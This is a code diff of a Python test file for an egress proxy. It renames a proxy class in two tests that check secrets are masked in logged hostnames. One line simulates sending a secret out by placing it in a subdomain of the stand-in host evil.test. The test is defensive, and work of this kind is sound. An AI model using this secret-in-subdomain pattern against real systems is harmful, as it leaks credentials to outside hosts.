@@ -7,7 +7,7 @@ from pathlib import Path
 
 import pytest
 
-from danube_pkg.adapters.egress import EgressProxies, FileLedgers, control
+from danube_pkg.adapters.egress import EgressProxyPool, FileLedgers, control
 from danube_pkg.core.egress.host_masks import host_forms
 from danube_pkg.core.egress.ledger import MAX_ALIKE
 from danube_pkg.core.egress.policy import EgressReason
@@ -96,7 +96,7 @@ async def test_a_restarted_server_tells_the_proxy_that_it_has_not_met_yet(tmp_pa
         async def forms_of(job_id: str) -> set[str]:
             return host_forms(yard.secrets)
 
-        restarted = EgressProxies(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
+        restarted = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
         await restarted.mask(pod.job_id)
         (await pod.ask(f"{SECRET}.evil.test:443")).close()
         assert (await yard.written(pod))[0].host == "***.evil.test"
@@ -133,7 +133,7 @@ async def test_what_is_told_while_a_pod_is_handed_over_is_not_forgotten(tmp_path
                 await go_on.wait()
             return known
 
-        proxies = EgressProxies(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
+        proxies = EgressProxyPool(proxy_settings(tmp_path), FileLedgers(tmp_path / "logs"), forms_of)
         async with asyncio.timeout(SECONDS), asyncio.TaskGroup() as group:
             handing = group.create_task(hand_over(proxies, yard.pods, []), name="hand over")
             job_id = await asked
